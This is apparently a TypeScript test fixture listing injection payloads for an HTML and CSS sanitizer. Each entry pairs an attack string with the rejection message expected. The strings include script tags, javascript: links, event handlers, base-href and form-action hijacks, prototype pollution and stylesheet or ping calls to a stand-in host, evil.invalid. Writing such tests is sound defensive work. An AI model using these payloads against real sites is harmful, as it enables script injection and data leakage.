import type { Forgery } from './forgeries';

const markup = (what: string, html: string, refused: RegExp): Forgery => ({
  what,
  html: JSON.stringify(html),
  refused,
});
const sheet = (what: string, css: string, refused: RegExp): Forgery => ({ what, css, refused });
const head = (what: string, told: string, refused?: RegExp): Forgery => ({
  what,
  head: told,
  ...(refused && { refused }),
});

/** Content that would leave its slot, run, load from elsewhere, or be taken for the frame. */
const ofMarkup: readonly Forgery[] = [
  markup('ends its slot', '</div></main><base href="https://evil.invalid"><main><div>', /<base> may not be in a part/),
  markup(
    'goes elsewhere by itself',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
    /<meta> may not be in a part, at character 1 of its part/,
  ),
  markup('changes where links lead', '<base href="https://evil.invalid">', /<base> may not be in a part/),
  markup('has a frame', '<iframe src="/"></iframe>', /<iframe> may not be in a part/),
  markup('has a script', '<script src="https://evil.invalid/a.js"></script>', /<script> may not be in a part/),
  markup('has a script in a drawing', '<svg><script>alert(1)</script></svg>', /<script> may not be in a part/),
  markup(
    'has a script behind a comment',
    '<!--><script>alert(1)</script>-->',
    /a comment of its own|may not be in a part|is dropped|written/,
  ),
  markup('embeds an object', '<object data="x"></object>', /<object> may not be in a part/),
  markup('embeds a plug-in', '<embed src="x">', /<embed> may not be in a part/),
  markup(
    'asks for a sheet',
    '<p>x</p><link rel="stylesheet" href="https://evil.invalid/a.css">',
    /<link> may not be in a part/,
  ),
  markup(
    'asks early for a sheet',
    '<link rel="preload" as="style" href="/a.css"><p>x</p>',
    /<link> is for a picture of the site/,
  ),
  markup(
    'asks early for one of several pictures elsewhere',
    '<link rel="preload" as="image" imagesrcset="/a.png 1x, https://evil.invalid/b.png 2x"><p>x</p>',
    /<link> is for a picture of the site/,
  ),
  markup(
    'asks early for a picture elsewhere',
    '<link rel="preload" as="image" href="https://evil.invalid/a.png"><p>x</p>',
    /<link> is for a picture of the site/,
  ),
  markup('has a sheet of its own', '<style>header{display:none}</style>', /<style> may not be in a part/),
  markup('handles events', '<img src="/x.png" onerror="alert(1)" alt="">', /<img> may not have onerror/),
  markup('handles events in a drawing', '<svg onload="alert(1)"></svg>', /<svg> may not have onload/),
  markup('links to a script', '<a href="javascript:alert(1)">x</a>', /<a> may not have the href/),
  markup('links to a script behind white space', '<a href=" java\tscript:alert(1)">x</a>', /<a> may not have the href/),
  markup(
    'links to a script in entities',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    /<a> may not have the href/,
  ),
  markup('links to a document of its own', '<a href="data:text/html,<b>x">x</a>', /may not have the href|is dropped/),
  markup(
    'links to a script in a drawing',
    '<svg><a xlink:href="javascript:alert(1)"></a></svg>',
    /<a> may not be in a part/,
  ),
  markup('sends a form elsewhere', '<form action="https://evil.invalid"></form>', /<form> may not have the action/),
  markup(
    'sends a form elsewhere by its button',
    '<form><button formaction="//evil.invalid">x</button></form>',
    /<button> may not have the formaction/,
  ),
  markup('styles itself', '<p style="position:fixed">x</p>', /<p> may not have style/),
  markup('has a main of its own', '<main>x</main>', /<main> may not be in a part/),
  markup('is taken for the slot', '<div data-slot="">x</div>', /<div> may not have data-slot/),
  markup('is taken for the retry button', '<aside data-recovery="">x</aside>', /<aside> may not have data-recovery/),
  markup(
    'hides markup where scripts are on',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    /may not name itself|is dropped|may not have/,
  ),
  markup('swallows what follows', '<textarea>', /a tag in <textarea> is dropped/),
  markup('swallows all that follows', '<plaintext>', /may not be in a part|is not closed/),
  markup('opens a comment', '<p>x</p><!-- ', /a comment of its own|is not where/),
  markup(
    'has markup in a drawing',
    '<svg><foreignObject><iframe></iframe></foreignObject></svg>',
    /<foreignObject> may not be in a part/,
  ),
  markup(
    'changes a link by a motion',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    /<set> may not be in a part/,
  ),
  markup(
    'shows a picture from elsewhere',
    '<img src="https://evil.invalid/a.png" alt="">',
    /<img> may not have the src/,
  ),
  markup(
    'shows one of several pictures from elsewhere',
    '<img srcset="/a.png 1x, https://evil.invalid/b.png 2x" alt="">',
    /<img> may not have the srcset/,
  ),
  markup(
    'uses a drawing from elsewhere',
    '<svg><use href="https://evil.invalid/a.svg#b"/></svg>',
    /<use> may not have the href/,
  ),
  markup(
    'is filled from elsewhere',
    '<svg><path fill="url(https://evil.invalid/a.svg#b)"/></svg>',
    /<path> may not have the fill/,
  ),
  markup('has a shadow', '<template shadowrootmode="open"><style>:host{}</style></template>', /may not be in a part/),
  markup('takes a name of the document', '<form name="cookie"></form>', /<form> may not have a name/),
  markup('takes a name of the site', '<p id="__SITE__">x</p>', /<p> may not have the id __SITE__/),
  markup('has formulas', '<math><mtext><img src="x"></mtext></math>', /may not be in a part/),
  markup('tells of a visit', '<a href="/" ping="https://evil.invalid">x</a>', /<a> may not have ping/),
];

const ofSheets: readonly Forgery[] = [
  sheet('ends its sheet', '.x{}</style><script>alert(1)</script>', /page\.css/),
  sheet(
    'asks for another',
    '@import "https://evil.invalid/a.css";',
    /page\.css: @import is not for the sheet of a page, at line 1, column 1/,
  ),
  sheet(
    'has a background from elsewhere',
    '.x{background:url(https://evil.invalid/a.png)}',
    /"https:\/\/evil\.invalid\/a\.png" is not of this site/,
  ),
  sheet(
    'shows a picture from elsewhere in quotes',
    '.x{background:url("//evil.invalid/a.png")}',
    /is not of this site/,
  ),
  sheet('writes it with escapes', '.x{background:\\75rl(https://evil.invalid/a.png)}', /cannot be read for certain/),
  sheet(
    'writes the address with escapes',
    '.x{background:url("\\68ttps://evil.invalid/a.png")}',
    /is not of this site/,
  ),
  sheet('offers several pictures', '.x{background:image-set("https://evil.invalid/a.png" 1x)}', /is not of this site/),
  sheet('keeps an address for later', '.x{--picture:url(https://evil.invalid/a.png)}', /is not of this site/),
  sheet('brings a font', '@font-face{font-family:x;src:url(/a.woff)}', /@font-face is not for the sheet of a page/),
  sheet('hides the header', 'header{display:none}', /header styles more than its own classes, at line 1, column 1/),
  sheet('writes into the footer', '.a-x,body footer:after{content:"pay here"}', /styles more than its own classes/),
  sheet(
    'styles the frame from its own place',
    'body:has(.a-x) header{display:none}',
    /styles more than its own classes/,
  ),
  sheet('styles the frame by its classes', '.host-bar{display:none}', /styles more than its own classes/),
  sheet(
    'styles the frame from a rule of its own',
    '.a-x{body:has(&) header{display:none}}',
    /styles more than its own classes/,
  ),
  sheet('replaces a motion of the frame', '@keyframes host-in{to{opacity:0}}', /has a name of the frame's/),
  sheet(
    'registers a property of the frame',
    '@property --bar{syntax:"*";inherits:true}',
    /@property is not for the sheet/,
  ),
];

const ofHeads: readonly Forgery[] = [
  head('ends its title', "{ title: '</title><script>alert(1)</script>' }"),
  head('ends an attribute', '{ description: \'"><base href="https://evil.invalid"><meta content="\' }'),
  head('ends its data', "{ jsonLd: [{ '@type': '</script><script>alert(1)</script>', '<!--': '<!--<script>' }] }"),
  head('has values that nobody asked for', "{ extraHead: '<base>', policy: '*', __proto__: { noIndex: 'x' } }"),
  head('has a prototype among its data', '{ jsonLd: [JSON.parse(\'{"__proto__":{"x":1}}\')] }'),
  head('shows a script', "{ image: 'javascript:alert(1)' }", /image is no address/),
  head('leads to a script', "{ breadcrumb: [{ label: 'x', href: 'javascript:alert(1)' }] }", /href is no address/),
  head('has control characters', "{ title: 'a\\0b', description: 'a\\nb' }"),
  head('has a title of a megabyte', "{ title: 'x'.repeat(1e6) }", /title Too big/),
];

/** Forgeries by the values that a process gives. */
export const valueForgeries: readonly Forgery[] = [...ofMarkup, ...ofSheets, ...ofHeads];
